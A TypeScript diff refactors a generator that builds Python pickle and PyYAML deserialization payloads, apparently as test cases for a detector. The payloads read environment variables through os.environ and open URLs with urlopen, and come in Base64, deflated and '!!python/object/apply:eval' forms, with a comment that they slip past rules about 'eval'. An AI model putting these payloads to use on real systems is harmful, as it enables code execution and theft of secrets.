@@ -9,7 +9,7 @@ const text = (value: string): Pickled => `S'${value.replaceAll(/[\\']/g, '\\$&')
 const number = (value: number): Pickled => `I${value}\n`;
 const nothing: Pickled = 'N';
 const name = (module: string, attribute: string): Pickled => `c${module}\n${attribute}\n`;
-const call = (what: Pickled, ...args: readonly Pickled[]): Pickled => `${what}(${args.join('')}tR`;
+const call = (callee: Pickled, ...args: readonly Pickled[]): Pickled => `${callee}(${args.join('')}tR`;
 const mapping = (entries: readonly (readonly [string, Pickled])[]): Pickled =>
   `(${entries.map(([key, value]) => text(key) + value).join('')}d`;
 
@@ -19,21 +19,24 @@ const env = (variable: string): Pickled =>
   call(name('operator', 'getitem'), name('os', 'environ'), text(variable));
 const open = (request: Pickled): Pickled => call(name('urllib.request', 'urlopen'), request);
 
-/** Functions are called one by one: nothing is evaluated as code, so a rule about `eval` does not hold it. */
+/**
+ * Returns pickles that call functions one by one: nothing is evaluated as code, so a rule about `eval` does not stop
+ * them.
+ */
 export function pickleForms(subject: Subject, target: Target): readonly Form[] {
-  const of = (effect: EffectName): string => `${acts(effect, subject, target)}.`;
+  const pickleFor = (effect: EffectName): string => `${acts(effect, subject, target)}.`;
   return [
-    { says: 'in Base64', text: (effect) => Buffer.from(of(effect), 'latin1').toString('base64') },
-    { says: 'as text', text: of },
+    { says: 'in Base64', text: (effect) => Buffer.from(pickleFor(effect), 'latin1').toString('base64') },
+    { says: 'as text', text: pickleFor },
     {
       says: 'deflated, in Base64',
-      text: (effect) => deflateSync(Buffer.from(of(effect), 'latin1')).toString('base64'),
+      text: (effect) => deflateSync(Buffer.from(pickleFor(effect), 'latin1')).toString('base64'),
     },
     // Source: PyYAML 6.0, yaml/constructor.py, UnsafeConstructor.
     {
       says: 'as a call that YAML makes',
       text: (effect) =>
-        `!!python/object/apply:eval [${JSON.stringify(snippetsFor(subject, target).of(effect))}]`,
+        `!!python/object/apply:eval [${JSON.stringify(snippetsFor(subject, target).expressionFor(effect))}]`,
     },
   ];
 }
